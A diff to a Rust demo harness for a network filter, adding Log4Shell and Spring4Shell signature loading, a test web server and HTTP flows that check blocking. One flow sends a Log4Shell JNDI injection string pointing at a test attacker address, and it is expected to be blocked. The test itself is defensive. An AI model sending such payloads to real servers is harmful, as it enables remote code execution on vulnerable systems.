@@ -36,6 +36,11 @@ const INET6: &str = "2001:db8:1::2";
 /// Inside 2001:db8:bad::/48, which order EXAMPLE-REG-2026-0117 blocks.
 const INET6_BAD: &str = "2001:db8:bad::2";
 const CUST4: &str = "198.19.0.2";
+/// A second address of the internet host, the one that attacks (and gets
+/// banned by the Log4Shell signature).
+const ATTACKER4: &str = "198.18.0.66";
+/// The customer's web server.
+const WEB_PORT: u16 = 8080;
 const CUST6: &str = "2001:db8:c::2";
 const METRICS: &str = "127.0.0.1:9960";
 const PINGS: u32 = 3;
@@ -167,6 +172,7 @@ impl Demo {
             // IPv6 address, and one inside the blocked 2001:db8:bad::/48.
             (NS_INET, "addr add 198.18.0.2/24 dev eth0"),
             (NS_INET, "addr add 198.18.0.250/24 dev eth0"),
+            (NS_INET, "addr add 198.18.0.66/24 dev eth0"),
             (NS_INET, "addr add 2001:db8:1::2/64 dev eth0 nodad"),
             (NS_INET, "addr add 2001:db8:bad::2/128 dev eth0 nodad"),
             (NS_INET, "link set eth0 up"),
@@ -225,6 +231,9 @@ impl Demo {
         let mut c = netns::exec(NS_RTR, agent_bin, ["run", "-i", EXT_IF, "--rules", "rules", "--allow"]);
         // State (audit log, interface slots) stays under target/ for a demo.
         c.arg(format!("{MGMT}/32")).args(["--metrics", METRICS, "--state-dir", "target/efdemo/state"]).current_dir(root);
+        // The bundled attack signatures, protecting the customer's network.
+        c.args(["--signatures", "rules/signatures/log4shell.rules", "--signatures", "rules/signatures/spring4shell.rules"]);
+        c.args(["--signature-var", "HOME_NET=[198.19.0.0/16,2001:db8:c::/48]"]);
         println!("$ {}", cmd::display(&c));
         c.stdin(Stdio::null()).stdout(log.try_clone()?).stderr(log);
         {
@@ -318,12 +327,29 @@ impl Demo {
                     dport: 5003,
                 },
             },
+            Flow {
+                what: format!("HTTP GET / {INET4} -> {CUST4}:{WEB_PORT}"),
+                expect: Expect::Pass("an ordinary request"),
+                send: Send::Http { src: INET4, path: "/index.html?q=jndi+tutorial" },
+            },
+            Flow {
+                what: format!("HTTP GET (Log4Shell) {ATTACKER4} -> {CUST4}"),
+                expect: Expect::Block("signatures:log4shell (sid 9000101, ${jndi:ldap in the URI)"),
+                send: Send::Http { src: ATTACKER4, path: "/?x=${jndi:ldap://198.18.0.66:1389/Exploit}" },
+            },
+            Flow {
+                what: format!("HTTP GET / {ATTACKER4} -> {CUST4}:{WEB_PORT}"),
+                expect: Expect::Block("signatures:log4shell (the attacker's source is banned for 10 minutes)"),
+                send: Send::Http { src: ATTACKER4, path: "/index.html" },
+            },
         ];
         let mut failures = 0;
+        let web = WebServer::start()?;
         for (i, f) in flows.iter().enumerate() {
             let (got_through, detail) = match f.send {
                 Send::Ping { src, dst } => ping(src, dst)?,
                 Send::Udp { src, sport, dst, dport } => udp(i, src, sport, dst, dport)?,
+                Send::Http { src, path } => web.get(src, path)?,
             };
             let (expected_pass, why) = match f.expect {
                 Expect::Pass(why) => (true, format!("expected: passes: {why}")),
@@ -359,7 +385,7 @@ impl Demo {
         }
         let mut failures = 0;
         println!();
-        for (order, at_least) in [("NOC-TRIAL-2026-0007", PINGS), ("EXAMPLE-REG-2026-0117", PINGS), ("NOC-ATTACK-2026-0042", 1)] {
+        for (order, at_least) in [("NOC-TRIAL-2026-0007", PINGS), ("EXAMPLE-REG-2026-0117", PINGS), ("NOC-ATTACK-2026-0042", 1), ("signatures:log4shell", 2)] {
             let label = format!("order=\"{order}\"");
             let got = metrics
                 .lines()
@@ -395,6 +421,88 @@ enum Send {
         dst: &'static str,
         dport: u16,
     },
+    /// An HTTP GET from `src` to the customer's web server.
+    Http {
+        src: &'static str,
+        path: &'static str,
+    },
+}
+
+/// A tiny web server in the customer's namespace: answers every request
+/// with 200 and remembers who sent which request line.
+struct WebServer {
+    seen: Arc<std::sync::Mutex<Vec<String>>>,
+    stop: Arc<AtomicBool>,
+}
+
+impl WebServer {
+    fn start() -> Result<WebServer> {
+        let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
+        let stop = Arc::new(AtomicBool::new(false));
+        let (seen_l, stop_l) = (seen.clone(), stop.clone());
+        let (ready_tx, ready_rx) = std::sync::mpsc::channel();
+        netns::spawn_within(NS_CUST, move || -> Result<()> {
+            let listener = std::net::TcpListener::bind((CUST4, WEB_PORT))?;
+            listener.set_nonblocking(true)?;
+            let _ = ready_tx.send(());
+            while !stop_l.load(Ordering::Relaxed) {
+                let Ok((mut s, peer)) = listener.accept() else {
+                    std::thread::sleep(Duration::from_millis(20));
+                    continue;
+                };
+                s.set_nonblocking(false)?;
+                s.set_read_timeout(Some(Duration::from_secs(2)))?;
+                // The whole request head, however it was segmented.
+                let mut head = Vec::new();
+                let mut buf = [0u8; 4096];
+                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match s.read(&mut buf) {
+                        Ok(n) if n > 0 => head.extend_from_slice(&buf[..n]),
+                        _ => break,
+                    }
+                }
+                if head.windows(4).any(|w| w == b"\r\n\r\n") {
+                    let line = String::from_utf8_lossy(&head).lines().next().unwrap_or("").to_string();
+                    seen_l.lock().unwrap().push(format!("{} {line}", peer.ip()));
+                    let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nok\n");
+                }
+            }
+            Ok(())
+        })?;
+        ready_rx.recv_timeout(Duration::from_secs(5)).context("the demo web server did not start")?;
+        Ok(WebServer { seen, stop })
+    }
+
+    /// GET `path` from `src`: (a response came back, summary).
+    fn get(&self, src: &'static str, path: &'static str) -> Result<(bool, String)> {
+        let response = netns::within(NS_INET, move || -> Result<String> {
+            let sock = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
+            sock.bind(&SocketAddr::new(src.parse()?, 0).into())?;
+            let to = SocketAddr::new(CUST4.parse()?, WEB_PORT);
+            sock.connect_timeout(&to.into(), Duration::from_secs(2))?;
+            let mut s: TcpStream = sock.into();
+            s.set_read_timeout(Some(Duration::from_secs(2)))?;
+            // One write, so the request is one segment (the filter looks at
+            // each segment on its own).
+            let request = format!("GET {path} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: efdemo\r\n\r\n");
+            s.write_all(request.as_bytes())?;
+            let mut body = String::new();
+            s.read_to_string(&mut body)?;
+            Ok(body)
+        })?;
+        let served = self.seen.lock().unwrap().iter().any(|l| l.starts_with(&format!("{src} GET {path} ")));
+        Ok(match response {
+            Ok(r) if r.starts_with("HTTP/1.0 200") => (true, "200 OK from the customer's server".to_string()),
+            Ok(r) => (false, format!("no answer ({} bytes); server saw it: {served}", r.len())),
+            Err(e) => (false, format!("no answer ({e}); server saw it: {served}")),
+        })
+    }
+}
+
+impl Drop for WebServer {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+    }
 }
 
 struct Flow {
